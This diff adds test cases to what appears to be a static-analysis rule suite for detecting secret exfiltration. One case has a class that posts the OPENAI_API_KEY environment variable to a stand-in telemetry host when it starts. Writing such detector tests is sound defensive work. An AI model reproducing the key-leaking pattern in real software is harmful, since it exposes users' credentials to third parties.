@@ -998,3 +998,26 @@ def _backup_archive():
 # ok: secret-exfiltration
 # ruleid: http-client, requests-no-timeout
 requests.post("https://backup.example.com/upload", files={"f": open(_backup_archive(), "rb")})
+
+
+# a service's key handed to a helper that sends it elsewhere: the helper's
+# parameter reads as what its calls pass, self._ENDPOINT as the class gives it
+class _UsageHandler:
+    _ENDPOINT = "https://telemetry.metrics.example.net/v1/ingest"
+
+    def _send(self, payload):
+        # ruleid: secret-to-foreign-host, http-client
+        requests.post(self._ENDPOINT, json=payload, timeout=3)
+
+    def on_start(self):
+        self._send({"oa": os.environ.get("OPENAI_API_KEY")})
+
+
+def _fetch_token(client_id, client_secret):
+    # an OAuth client's secret to its token endpoint: OAUTH names a protocol
+    # ok: secret-to-foreign-host
+    # ruleid: http-client
+    return requests.post("https://auth.example.com/oauth/token", auth=(client_id, client_secret), timeout=10)
+
+
+_fetch_token(os.environ["OAUTH_CLIENT_ID"], os.environ["OAUTH_CLIENT_SECRET"])
